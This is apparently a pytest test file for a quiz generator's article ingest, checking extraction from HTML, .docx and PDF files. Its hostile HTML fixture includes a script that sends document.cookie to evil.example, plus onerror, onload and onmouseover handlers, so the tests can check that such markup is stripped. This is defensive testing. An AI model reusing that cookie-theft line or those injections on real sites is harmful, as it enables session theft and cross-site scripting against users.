"""HTML, .docx and PDF ingest: text, metadata, set-aside lines, hostile markup, broken files."""
from __future__ import annotations

import io

import pytest
from paths import ARTICLES

from quizgen.errors import EmptyArticleError, NoTextLayerError, UnsupportedFileError
from quizgen.ingest import article_from_html, article_from_text, load_article
from quizgen.model import Article

SEED_BLOCKS = (ARTICLES / "00-seed-pompeo-xinjiang.txt").read_text(encoding="utf-8").split("\n\n")
TITLE = SEED_BLOCKS[0]
PARAS = SEED_BLOCKS[1:12]
CAPTION = ("This photo taken on June 2, 2019 shows a propaganda painting near Kashgar. "
           "GREG BAKER/AFP via Getty Images")


def assert_synthesised(article: Article) -> None:
    """Offsets hold and the synthesised text is title, blank line, paragraphs, set-aside lines."""
    for p in article.paragraphs:
        assert article.text[p.start:p.start + len(p.text)] == p.text
    assert article.text.startswith(article.title + "\n\n") and article.title_start == 0
    body = "\n\n".join(p.text for p in article.paragraphs)
    assert article.text.startswith(article.title + "\n\n" + body)
    for line in article.set_aside:
        assert line in article.text[len(article.title) + 2 + len(body):]


def esc(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;")


HOSTILE_PAGE = f"""<!DOCTYPE html>
<html><head><title>{TITLE} | Example News</title>
<meta name="author" content="Jane Doe"><meta property="article:published_time" content="2020-07-10">
<style>.x {{ color: red }} STYLETEXT</style>
<script>document.write('SCRIPTTEXT'); fetch('http://evil.example/steal?c=' + document.cookie)</script>
</head><body onload="alert('ONLOADTEXT')">
<nav><ul><li><a href="/">Home</a></li><li><a href="/world">NAVTEXT World</a></li></ul></nav>
<article><h1>{TITLE}</h1>
{"".join(f'<p onmouseover="steal()">{esc(p)}</p>' for p in PARAS[:5])}
<figure><img src="x.jpg" onerror="alert('IMGTEXT')"><figcaption>{CAPTION}</figcaption></figure>
<iframe src="http://evil.example/">IFRAMETEXT</iframe>
<h2>Surveillance</h2>
{"".join(f"<p>{esc(p)}</p>" for p in PARAS[5:])}
<p>Read more: China news</p>
</article>
<!-- COMMENTTEXT hidden note -->
<section class="comments"><h3>Comments</h3><p>COMMENTTEXT A reader wrote a long comment that disagrees with
everything in the article and goes on and on about it for a while.</p></section>
<footer>FOOTERTEXT Copyright 2020</footer></body></html>"""
NEVER = ["SCRIPTTEXT", "STYLETEXT", "ONLOADTEXT", "NAVTEXT", "IMGTEXT", "IFRAMETEXT", "COMMENTTEXT",
         "FOOTERTEXT", "steal", "alert", "document.cookie", "<", ">"]


def test_html_main_text_and_metadata():
    article = article_from_html(HOSTILE_PAGE, url="https://news.example/pompeo")
    assert article.title == TITLE
    assert [p.text for p in article.paragraphs] == PARAS
    assert article.byline == "Jane Doe"
    assert article.date == "2020-07-10"
    assert article.source_url == "https://news.example/pompeo"
    assert "Read more: China news" in article.set_aside
    assert "Surveillance" in article.set_aside
    assert_synthesised(article)


def test_hostile_html_yields_plain_text_only():
    article = article_from_html(HOSTILE_PAGE)
    for marker in NEVER:
        assert marker not in article.text, marker


def test_markup_inside_raw_text_elements_never_becomes_text():
    # the HTML parser keeps an <iframe>'s or <noscript>'s content as raw text, markup included
    page = ("<html><body><article><h1>T</h1>" + "".join(f"<p>{esc(p)}</p>" for p in PARAS)
            + '<iframe><p onclick="steal()">IFRAMETEXT</p></iframe>'
            + "<noscript><img src=x onerror=alert(1)>NOSCRIPTTEXT</noscript>"
            + "<textarea><script>alert(2)</script></textarea></article></body></html>")
    article = article_from_html(page)
    assert [p.text for p in article.paragraphs] == PARAS
    for marker in ("IFRAMETEXT", "NOSCRIPTTEXT", "onclick", "onerror", "alert", "<"):
        assert marker not in article.text, marker


def test_lxml_fallback_when_trafilatura_finds_nothing(monkeypatch):
    import trafilatura

    monkeypatch.setattr(trafilatura, "bare_extraction", lambda *a, **k: None)
    article = article_from_html(HOSTILE_PAGE)
    assert article.title == TITLE
    assert [p.text for p in article.paragraphs] == PARAS
    for marker in NEVER:
        assert marker not in article.text, marker
    assert_synthesised(article)


def test_html_bytes_with_meta_charset_cp1252():
    page = ('<html><head><meta charset="windows-1252"><title>Caf\u00e9 \u201cnews\u201d</title></head><body>'
            + "".join(f"<p>{esc(p)}</p>" for p in PARAS)
            + "<p>\u201cIt\u2019s fine,\u201d she said \u2014 twice.</p></body></html>").encode("cp1252")
    article = load_article(page, filename="page.html")
    assert article.title == "Caf\u00e9 \u201cnews\u201d"
    assert article.paragraphs[-1].text == "\u201cIt\u2019s fine,\u201d she said \u2014 twice."


def test_html_file_by_sniffing_without_extension(tmp_path):
    path = tmp_path / "download"
    path.write_text(HOSTILE_PAGE, encoding="utf-8")
    article = load_article(path)
    assert article.title == TITLE and len(article.paragraphs) == 11


def test_html_without_text_is_empty():
    with pytest.raises(EmptyArticleError, match="no article text on this page"):
        article_from_html("<html><head><script>x()</script></head><body><nav>Home</nav></body></html>")


def test_xhtml_with_xml_declaration():
    page = ('<?xml version="1.0" encoding="utf-8"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body><h1>T</h1>'
            + "".join(f"<p>{esc(p)}</p>" for p in PARAS) + "</body></html>")
    article = article_from_text(page)
    assert len(article.paragraphs) == 11


# --- .docx -----------------------------------------------------------------------------------

def make_docx(**kw) -> bytes:
    from docx import Document

    doc = Document()
    if kw.get("title", True):
        doc.add_heading(TITLE, level=0)
    doc.add_paragraph("By Jane Doe")
    for p in PARAS[:5]:
        doc.add_paragraph(p)
    doc.add_paragraph("")
    doc.add_heading("Surveillance", level=2)
    for p in PARAS[5:]:
        doc.add_paragraph(p)
    doc.add_paragraph("Mike Pompeo, China, Xinjiang, sanctions, human rights\n" + CAPTION)
    table = doc.add_table(rows=1, cols=1)
    table.cell(0, 0).text = "TABLETEXT"
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


def test_docx():
    article = load_article(make_docx(), filename="story.docx")
    assert article.title == TITLE
    assert [p.text for p in article.paragraphs] == PARAS
    assert article.byline == "Jane Doe"
    assert set(article.set_aside) == {"By Jane Doe", "Surveillance",
                                      "Mike Pompeo, China, Xinjiang, sanctions, human rights", CAPTION}
    assert "TABLETEXT" not in article.text
    assert_synthesised(article)


def test_docx_without_title_style_uses_first_paragraph(tmp_path):
    path = tmp_path / "story.docx"
    path.write_bytes(make_docx(title=False))
    article = load_article(path)
    # no headline in this file: the byline is set aside, the first paragraph's first sentence stands in
    assert article.title == "A Chinese foreign ministry spokesperson has invited Secretary of State Mike " \
        "Pompeo to visit the western region of Xinjiang, following the latest round of U.S. \u2026"  # 25
    assert article.byline == "Jane Doe"
    assert [p.text for p in article.paragraphs] == PARAS


def test_docx_sniffed_without_filename():
    article = load_article(make_docx())
    assert article.title == TITLE


# --- PDF -------------------------------------------------------------------------------------

def make_pdf(paragraphs: list[str], *, title: str | None = TITLE, running_header: bool = False) -> bytes:
    from reportlab.lib.pagesizes import letter
    from reportlab.lib.styles import getSampleStyleSheet
    from reportlab.platypus import Paragraph, SimpleDocTemplate

    styles = getSampleStyleSheet()
    buf = io.BytesIO()

    def header(canvas, doc):
        canvas.setFont("Helvetica", 8)
        canvas.drawString(72, 760, "Example News \u2014 World")
        canvas.drawString(300, 30, str(doc.page))

    doc = SimpleDocTemplate(buf, pagesize=letter, invariant=True)
    flow = [Paragraph(esc(title), styles["Title"])] if title else []
    flow.append(Paragraph("By Jane Doe", styles["Normal"]))
    flow += [Paragraph(esc(p), styles["BodyText"]) for p in paragraphs]
    if running_header:
        doc.build(flow, onFirstPage=header, onLaterPages=header)
    else:
        doc.build(flow)
    return buf.getvalue()


def test_pdf():
    article = load_article(make_pdf(PARAS), filename="story.pdf")
    assert article.title == TITLE
    assert [p.text for p in article.paragraphs] == PARAS
    assert article.byline == "Jane Doe"
    assert_synthesised(article)


def test_pdf_over_several_pages_drops_headers_and_page_numbers():
    paras = PARAS + [
        b for name in ("03-australia-iodine-deficiency.txt", "05-nasa-shuttle-retirement-homes.txt")
        for b in (ARTICLES / name).read_text(encoding="utf-8").strip().split("\n\n")[1:]
    ]
    from pypdf import PdfReader

    data = make_pdf(paras, running_header=True)
    assert len(PdfReader(io.BytesIO(data)).pages) >= 3
    article = load_article(data, filename="story.pdf")
    assert [p.text for p in article.paragraphs] == paras
    assert "Example News" not in article.text


def test_pdf_without_text_layer():
    from reportlab.lib.pagesizes import letter
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=letter, invariant=True)
    c.rect(100, 100, 300, 400, fill=1)  # a drawing, like a scanned page: no text at all
    c.showPage()
    c.save()
    with pytest.raises(NoTextLayerError) as info:
        load_article(buf.getvalue(), filename="scan.pdf")
    assert "this PDF has no text layer (scanned?); paste the text instead" in str(info.value)


def test_pdf_without_large_headline_uses_first_short_line():
    article = load_article(make_pdf(PARAS, title=None), filename="story.pdf")
    assert article.byline == "Jane Doe"
    assert [p.text for p in article.paragraphs] == PARAS
    assert article.title.startswith("A Chinese foreign ministry spokesperson")


def test_damaged_pdf():
    with pytest.raises(UnsupportedFileError, match="could not open this PDF"):
        load_article(b"%PDF-1.4\n" + b"garbage " * 200, filename="story.pdf")
